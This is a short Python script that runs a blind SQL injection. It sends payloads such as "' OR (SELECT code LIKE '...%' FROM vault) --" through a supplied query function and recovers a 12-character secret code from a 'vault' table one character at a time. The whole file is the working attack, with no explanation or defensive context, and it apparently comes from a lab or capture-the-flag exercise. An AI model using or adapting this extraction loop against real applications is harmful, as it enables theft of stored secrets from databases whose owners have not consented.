import string


def find(ask):
    code = ""
    for _ in range(12):
        for sign in string.ascii_letters + string.digits + string.punctuation:
            if ask(f"' OR (SELECT code LIKE '{code}{sign}%' FROM vault) --"):
                code += sign
                break
    return code
